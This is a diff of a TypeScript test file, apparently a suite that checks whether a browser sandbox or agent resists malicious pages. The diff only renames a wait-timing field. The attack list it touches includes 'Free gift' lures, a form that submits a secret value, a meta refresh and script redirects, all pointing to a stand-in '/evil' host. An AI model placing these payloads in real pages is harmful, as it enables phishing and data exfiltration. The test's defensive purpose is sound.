@@ -62,7 +62,7 @@ function attacks(away: string): Attack[] {
     [
       `<button onclick="setTimeout(() => { location = '${away}/evil?timer' }, 200)">Free gift</button>`,
       click('Free gift'),
-      { type: 'wait', ms: 500 },
+      { type: 'wait', milliseconds: 500 },
     ],
     [
       `<form action="${away}/evil"><input name="q"><button>Send</button></form>`,
@@ -84,8 +84,8 @@ function attacks(away: string): Attack[] {
       { type: 'fill', target: 'q', value: secret },
       click('Send'),
     ],
-    [`<meta http-equiv="refresh" content="0;url=${away}/evil?meta">`, { type: 'wait', ms: 500 }],
-    [`<script>location.href = '${away}/evil?script'</script>`, { type: 'wait', ms: 300 }],
+    [`<meta http-equiv="refresh" content="0;url=${away}/evil?meta">`, { type: 'wait', milliseconds: 500 }],
+    [`<script>location.href = '${away}/evil?script'</script>`, { type: 'wait', milliseconds: 300 }],
     [`<a href="${away}/evil" ping="/ping">Free gift</a>`, { type: 'doubleClick', target: 'Free gift' }],
     [
       `<input type="file" aria-label="Key">`,
